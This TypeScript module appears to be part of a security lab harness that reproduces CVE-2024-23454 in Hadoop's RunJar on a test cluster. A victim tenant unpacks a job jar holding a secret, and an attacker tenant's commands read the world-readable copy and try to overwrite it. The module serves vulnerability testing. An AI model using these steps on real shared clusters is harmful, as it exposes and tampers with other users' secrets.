// CVE-2024-23454: Hadoop's RunJar (what `hadoop jar` runs) unpacks the job jar into a work directory under
// java.io.tmpdir. Up to 3.3.x it is made with File.createTempFile → delete → mkdirs, so it gets the umask's mode
// (755 under the usual 022): any local user can read the unpacked files. From 3.4.0 (HADOOP-19031) it is created
// owner-only (rwx------). The victim tenant runs the real RunJar of the cluster's Hadoop on the gateway; another
// tenant then reads (and tries to replace) the unpacked copy of a secret the job jar carries.
import { GATEWAY_NODE } from "../cluster/cluster-config.ts";
import type { StartedCluster } from "../cluster/started-cluster.ts";
import { JOBS_JAR } from "../images/hadoop-spark-image.ts";

/** Hadoop's jars in the image (hadoop-common carries org.apache.hadoop.util.RunJar). */
export const HADOOP_LIB = "/opt/hadoop/lib";
/** The resource the job jar carries (fixtures/jobs UnjarHold reads it back through RunJar's class loader). */
export const SECRET_ENTRY = "shieldlab-unjar-secret.txt";
/** The umask the victim runs RunJar under: the usual default, written down so the evidence does not depend on exec's. */
export const VICTIM_UMASK = "022";

/** What UnjarHold printed (its stdout, through RunJar). */
export interface UnjarOutput {
  dir?: string;
  before?: string;
  after?: string;
  released: boolean;
}

/** Parses UnjarHold's lines ("UNJAR-DIR …", "SECRET-BEFORE …", "SECRET-AFTER …", "RELEASED"). */
export function parseUnjarOutput(text: string): UnjarOutput {
  const line = (key: string): string | undefined => new RegExp(`^${key} (.*)$`, "m").exec(text)?.[1]?.trim();
  return { dir: line("UNJAR-DIR"), before: line("SECRET-BEFORE"), after: line("SECRET-AFTER"), released: /^RELEASED$/m.test(text) };
}

/** One path's owner and mode, from `stat -c '%U %a %n'`. */
export interface PathMode {
  path: string;
  owner: string;
  mode: string;
}

/** Parses `stat -c '%U %a %n'` lines. */
export function parseStatLines(text: string): PathMode[] {
  return text
    .split("\n")
    .map((l) => /^(\S+) ([0-7]{3,4}) (.+)$/.exec(l.trim()))
    .filter((m): m is RegExpExecArray => m !== null)
    .map((m) => ({ owner: m[1]!, mode: m[2]!, path: m[3]! }));
}

/** The victim's folder in its home (job jar, release file, RunJar's output). */
export function victimDir(tenant: string): string {
  return `/home/${tenant}/shieldlab-unjar`;
}

/** Bash, run as the victim: builds the job jar holding `$SECRET_TOKEN`, starts RunJar detached, prints its pid. */
export function victimScript(tenant: string, holdSeconds: number): string {
  const d = victimDir(tenant);
  const jar = `${d}/job.jar`;
  const mkJar = `import os, zipfile; z = zipfile.ZipFile("${jar}", "w"); z.writestr("${SECRET_ENTRY}", os.environ["SECRET_TOKEN"] + "\\n"); z.close()`;
  return [
    "set -eu",
    `umask ${VICTIM_UMASK}`,
    `rm -rf ${d} && mkdir -p ${d}`,
    `python3 -c '${mkJar}'`,
    `setsid nohup /opt/java/bin/java -Xmx128m -cp '${HADOOP_LIB}/*:${JOBS_JAR}' org.apache.hadoop.util.RunJar ${jar} shieldlab.jobs.UnjarHold ${d}/release ${holdSeconds} > ${d}/out.log 2>&1 < /dev/null &`,
    "echo $!",
  ].join("\n");
}

/** Starts the victim's RunJar; returns its pid. */
export async function startVictim(cluster: StartedCluster, tenant: string, token: string, holdSeconds: number): Promise<number> {
  const r = await cluster.exec(GATEWAY_NODE, ["bash", "-c", victimScript(tenant, holdSeconds)], { user: tenant, env: { SECRET_TOKEN: token } });
  const pid = Number(r.stdout.trim().split("\n").at(-1));
  if (r.exitCode !== 0 || !Number.isInteger(pid) || pid <= 0) throw new Error(`RunJar did not start as ${tenant} (exit ${r.exitCode}): ${(r.stderr || r.stdout).trim().slice(0, 300)}`);
  return pid;
}

/** RunJar's output so far, and whether its process still runs. */
export async function victimOutput(cluster: StartedCluster, tenant: string, pid: number): Promise<{ text: string; alive: boolean }> {
  const r = await cluster.exec(GATEWAY_NODE, ["bash", "-c", `cat ${victimDir(tenant)}/out.log 2>/dev/null; if kill -0 ${pid} 2>/dev/null; then echo __ALIVE__; fi`]);
  return { text: r.stdout.replace(/__ALIVE__\n?$/, ""), alive: /__ALIVE__\n?$/.test(r.stdout) };
}

/** Owner and mode of the work directory and the unpacked secret (as root: the facts, whoever may read them). */
export async function unpackedModes(cluster: StartedCluster, dir: string): Promise<PathMode[]> {
  const r = await cluster.exec(GATEWAY_NODE, ["stat", "-c", "%U %a %n", dir, `${dir}/${SECRET_ENTRY}`]);
  return parseStatLines(r.stdout);
}

/** A command's outcome as the attacker saw it. */
export interface AttackerTry {
  exitCode: number;
  stdout: string;
  stderr: string;
}

/** As `attacker`: read the unpacked secret, then try to overwrite it with `replacement`. */
export async function attackerTries(cluster: StartedCluster, attacker: string, dir: string, replacement: string): Promise<{ read: AttackerTry; replace: AttackerTry }> {
  const file = `${dir}/${SECRET_ENTRY}`;
  const t = async (cmd: string[], env?: Record<string, string>): Promise<AttackerTry> => {
    const r = await cluster.exec(GATEWAY_NODE, cmd, { user: attacker, ...(env ? { env } : {}) });
    return { exitCode: r.exitCode, stdout: r.stdout.slice(0, 300), stderr: r.stderr.trim().slice(0, 300) };
  };
  const read = await t(["cat", file]);
  const replace = await t(["bash", "-c", `printf '%s\\n' "$REPLACEMENT" > '${file}'`], { REPLACEMENT: replacement });
  return { read, replace };
}

/** Releases the victim: its release file makes UnjarHold read the copy again and return. */
export async function releaseVictim(cluster: StartedCluster, tenant: string): Promise<void> {
  await cluster.exec(GATEWAY_NODE, ["touch", `${victimDir(tenant)}/release`], { user: tenant });
}

/** Ends the victim's RunJar by its pid (after the release wait ran out). */
export async function killVictim(cluster: StartedCluster, pid: number): Promise<void> {
  await cluster.exec(GATEWAY_NODE, ["bash", "-c", `kill ${pid} 2>/dev/null || true`]);
}
